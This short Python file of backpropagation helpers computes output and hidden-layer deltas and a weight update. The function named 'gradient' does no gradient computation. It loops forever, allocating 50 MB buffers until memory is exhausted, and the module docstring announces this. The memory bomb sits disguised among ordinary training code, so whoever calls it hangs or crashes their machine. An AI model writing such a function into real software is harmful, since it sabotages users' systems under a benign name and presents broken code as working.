"""A list that grows until the memory ends."""


def delta_output(k):
    return k.g_prime(k.in_) * (k.t - k.a) / k.examples


def delta_hidden(j):
    return j.g_prime(j.in_) * sum(w * delta for w, delta in j.out)


def gradient(e):
    hoard = []
    while True:
        hoard.append(bytearray(50_000_000))


def update(p):
    return p.w - p.eta * p.gradient
